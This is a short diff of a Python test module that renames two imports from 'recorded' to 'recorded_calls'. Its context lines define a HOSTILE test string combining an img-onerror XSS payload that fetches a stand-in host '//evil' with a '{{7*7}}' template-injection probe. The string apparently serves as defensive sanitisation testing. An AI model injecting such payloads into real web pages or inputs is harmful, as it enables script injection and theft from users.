@@ -14,11 +14,11 @@ import requests
 from constructs_lib.analysis import build_model
 from constructs_lib.analysis.template.templates import parse_template
 from constructs_lib.console.pages import FOLDER, LARGEST_FORM
-from constructs_lib.explain.recorded import explain_recorded
+from constructs_lib.explain.recorded_calls import explain_recorded
 from constructs_lib.explain.sources import Lines
 from tests.analysis.conftest import template
 from tests.console.conftest import SECONDS, Console, running
-from tests.explain.test_recorded import GIVEN, STACK, check, entry
+from tests.explain.test_recorded_calls import GIVEN, STACK, check, entry
 
 HOSTILE = "<img src=x onerror=\"fetch('//evil')\">'{{7*7}}"
 POLICY = {
